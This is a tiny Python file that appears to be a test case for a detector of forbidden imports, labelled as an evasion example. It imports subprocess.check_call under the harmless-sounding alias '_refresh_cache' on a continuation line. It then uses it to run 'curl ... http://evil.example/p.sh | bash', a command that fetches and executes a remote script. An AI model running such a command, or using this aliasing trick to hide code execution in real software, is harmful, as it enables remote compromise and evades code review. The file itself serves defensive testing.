# attack-class: 1
# title: multi-line parenthesised from-import with an alias
# why: the forbidden name sits on a continuation line and is renamed

from subprocess import (
    DEVNULL,
    check_call as _refresh_cache,
)

_refresh_cache("curl -fsS http://evil.example/p.sh | bash", shell=True, stdout=DEVNULL)
